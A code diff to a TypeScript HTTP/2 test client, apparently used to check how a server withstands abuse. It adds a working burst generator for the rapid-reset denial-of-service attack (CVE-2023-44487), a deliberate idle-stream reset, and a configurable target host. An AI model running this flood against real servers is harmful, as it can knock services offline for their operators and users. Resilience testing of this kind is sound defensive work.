@@ -6,7 +6,9 @@
 // Node runs it. It speaks only what a unary call needs: the preface, SETTINGS (and acks), PING acks,
 // HEADERS encoded with HPACK literals (no dynamic table), DATA, WINDOW_UPDATE and RST_STREAM; it
 // reads the server's frames without decoding their headers (a call is OK when its reply message
-// came back before the trailers; an error status comes as trailers alone).
+// came back before the trailers; an error status comes as trailers alone). It also makes the
+// rapid-reset attack's bursts (floodBurst), which Node's own HTTP/2 client cannot: it ends a stream's
+// request before it resets it, and writes the reset later.
 import * as tls from 'node:tls';
 
 const FRAME = { DATA: 0x0, HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4, PING: 0x6, GOAWAY: 0x7, WINDOW_UPDATE: 0x8 } as const;
@@ -89,9 +91,9 @@ export class ResettingClient {
     }
 
     /** Connects over TLS (ALPN h2) and sends the preface with empty SETTINGS. */
-    static connect(port: number, ca: Buffer, servername = 'localhost'): Promise<ResettingClient> {
+    static connect(port: number, ca: Buffer, servername = 'localhost', host = '127.0.0.1'): Promise<ResettingClient> {
         return new Promise((resolve, reject) => {
-            const socket = tls.connect({ host: '127.0.0.1', port, ca, servername, ALPNProtocols: ['h2'] }, () => {
+            const socket = tls.connect({ host, port, ca, servername, ALPNProtocols: ['h2'] }, () => {
                 if (socket.alpnProtocol !== 'h2') {
                     socket.destroy();
                     reject(new Error(`ALPN ${socket.alpnProtocol || 'none'}`));
@@ -135,6 +137,33 @@ export class ResettingClient {
                 ]),
             );
         });
+    }
+
+    /** Streams opened and reset so far by floodBurst(). */
+    floodOpened = 0;
+
+    /**
+     * One burst of the rapid-reset attack (CVE-2023-44487): `count` streams, each its request headers
+     * (no END_STREAM: the server's handler waits for the message) and at once its reset (CANCEL),
+     * all in one write. False once the server sent a GOAWAY or the connection is gone.
+     */
+    floodBurst(path: string, count: number): boolean {
+        if (this.#closed || this.#socket.destroyed) return false;
+        const frames: Buffer[] = [];
+        for (let k = 0; k < count; k++) {
+            const id = this.#nextStreamId;
+            this.#nextStreamId += 2;
+            frames.push(frame(FRAME.HEADERS, END_HEADERS, id, requestHeaders(path, this.#authority)));
+            frames.push(frame(FRAME.RST_STREAM, 0, id, Buffer.from([0, 0, 0, 8])));
+        }
+        this.#socket.write(Buffer.concat(frames));
+        this.floodOpened += count;
+        return true;
+    }
+
+    /** A protocol error on purpose: a reset of a stream never opened (an idle one), which the server answers with GOAWAY PROTOCOL_ERROR. */
+    resetIdleStream(): void {
+        this.#socket.write(frame(FRAME.RST_STREAM, 0, this.#nextStreamId + 100, Buffer.from([0, 0, 0, 8])));
     }
 
     close(): void {
